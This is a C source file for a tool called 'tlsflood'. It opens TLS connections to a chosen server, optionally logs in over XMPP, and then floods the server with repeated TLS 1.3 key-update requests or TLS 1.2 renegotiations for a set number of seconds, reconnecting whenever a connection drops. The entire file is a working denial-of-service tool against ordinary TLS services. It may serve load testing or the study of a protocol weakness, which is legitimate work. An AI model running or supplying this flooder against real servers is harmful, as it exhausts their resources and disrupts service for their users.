/*
 * tlsflood - what TLS itself lets an attacker do at full speed, which Python's ssl does not: after one handshake
 *   keyupdate    asks for new keys again and again (TLS 1.3), each time with an answer;
 *   renegotiate  asks for another handshake again and again (TLS 1.2).
 *
 *   tlsflood MODE ADDRESS PORT SOURCE NAME SECONDS [SECRET]
 *
 * With a secret (base64, for PLAIN) it logs in first. One thread, blocking; prints how many it asked for, how many bytes came back and how many connections that took.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/ssl.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + 1e-9 * (double)t.tv_nsec;
}

static int dial(const char *address, int port, const char *source) {
    struct sockaddr_in from = {.sin_family = AF_INET}, to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    struct timeval limit = {.tv_sec = 5};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, address, &to.sin_addr);
    inet_pton(AF_INET, source, &from.sin_addr);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    if (bind(fd, (struct sockaddr *)&from, sizeof from) || connect(fd, (struct sockaddr *)&to, sizeof to)) {
        close(fd);
        return -1;
    }
    return fd;
}

/* Throws away what has come. */
static long drain(SSL *ssl, int fd) {
    char buffer[16384];
    long total = 0;
    struct pollfd one = {.fd = fd, .events = POLLIN};
    while (poll(&one, 1, 0) == 1) {
        int got = SSL_read(ssl, buffer, sizeof buffer);
        if (got <= 0) return SSL_get_error(ssl, got) == SSL_ERROR_WANT_READ ? total : -1;
        total += got;
    }
    return total;
}

/* Writes this, and reads until that is seen. */
static int say(SSL *ssl, const char *text, const char *end) {
    char buffer[65536];
    int size = 0;
    if (SSL_write(ssl, text, (int)strlen(text)) <= 0) return 0;
    do {
        int got = SSL_read(ssl, buffer + size, (int)sizeof buffer - 1 - size);
        if (got <= 0) return 0;
        size += got;
        buffer[size] = 0;
    } while (!strstr(buffer, end) && size < (int)sizeof buffer - 1);
    return strstr(buffer, end) != NULL;
}

static int log_in(SSL *ssl, const char *name, const char *secret) {
    char header[1024], auth[1024];
    snprintf(header, sizeof header,
             "<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' to='%s' version='1.0'>", name);
    snprintf(auth, sizeof auth, "<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>%s</auth>", secret);
    return say(ssl, header, "</stream:features>") && say(ssl, auth, "<success") && say(ssl, header, "</stream:features>");
}

int main(int argc, char **argv) {
    if (argc != 7 && argc != 8) return 2;
    int renegotiates = strcmp(argv[1], "renegotiate") == 0;
    double until = now() + atof(argv[6]);
    long asked = 0, back = 0, connections = 0;
    signal(SIGPIPE, SIG_IGN);
    SSL_CTX *context = SSL_CTX_new(TLS_client_method());
    if (renegotiates) SSL_CTX_set_max_proto_version(context, TLS1_2_VERSION);
    while (now() < until) {
        int fd = dial(argv[2], atoi(argv[3]), argv[4]);
        if (fd < 0) {
            usleep(10000);
            continue;
        }
        connections++;
        SSL *ssl = SSL_new(context);
        SSL_set_fd(ssl, fd);
        SSL_set_tlsext_host_name(ssl, argv[5]);
        int good = SSL_connect(ssl) == 1 && (argc == 7 || log_in(ssl, argv[5], argv[7]));
        while (good && now() < until) {
            good = renegotiates ? SSL_renegotiate(ssl) == 1 : SSL_key_update(ssl, SSL_KEY_UPDATE_REQUESTED) == 1;
            if (good) good = SSL_do_handshake(ssl) == 1;
            if (good) asked++;
            if (good && asked % 16 == 0) {
                long came = drain(ssl, fd);
                good = came >= 0;
                if (good) back += came;
            }
        }
        SSL_free(ssl);
        close(fd);
    }
    printf("asked %ld back %ld connections %ld\n", asked, back, connections);
    return 0;
}
